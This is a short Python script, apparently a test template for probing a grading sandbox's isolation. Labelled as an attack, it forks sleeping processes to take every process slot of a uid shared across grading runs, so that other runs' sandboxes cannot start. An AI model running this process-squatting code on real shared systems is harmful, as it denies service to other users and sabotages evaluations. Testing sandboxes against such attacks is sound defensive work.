# Attack: hold every process the sandbox may have (asleep, costing nothing): its host uid, 61000 + slot,
# is the same in every grading run on the machine, so another run's sandboxes of that uid cannot start.
import os
import time

children, deadline = 0, time.monotonic() + {SQUAT_SECONDS}
while time.monotonic() < deadline:          # take every process slot, and any that is freed
    try:
        pid = os.fork()
    except OSError:
        time.sleep(0.01)
        continue
    if pid == 0:
        time.sleep(3600)
        os._exit(0)
    children += 1
print("SQUAT held", children, "processes", flush=True)
